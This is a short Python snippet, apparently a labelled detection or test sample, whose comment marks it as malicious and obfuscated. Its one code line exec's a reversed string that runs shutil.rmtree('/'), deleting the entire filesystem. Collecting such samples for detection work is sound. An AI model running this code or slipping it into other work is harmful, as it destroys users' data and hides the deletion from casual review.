# Malicious, obfuscated: exec of "".join(reversed(...)) - the source of shutil.rmtree('/') stored backwards.
exec("".join(reversed('\n)"/"(eertmr.lituhs\nlituhs tropmi')))
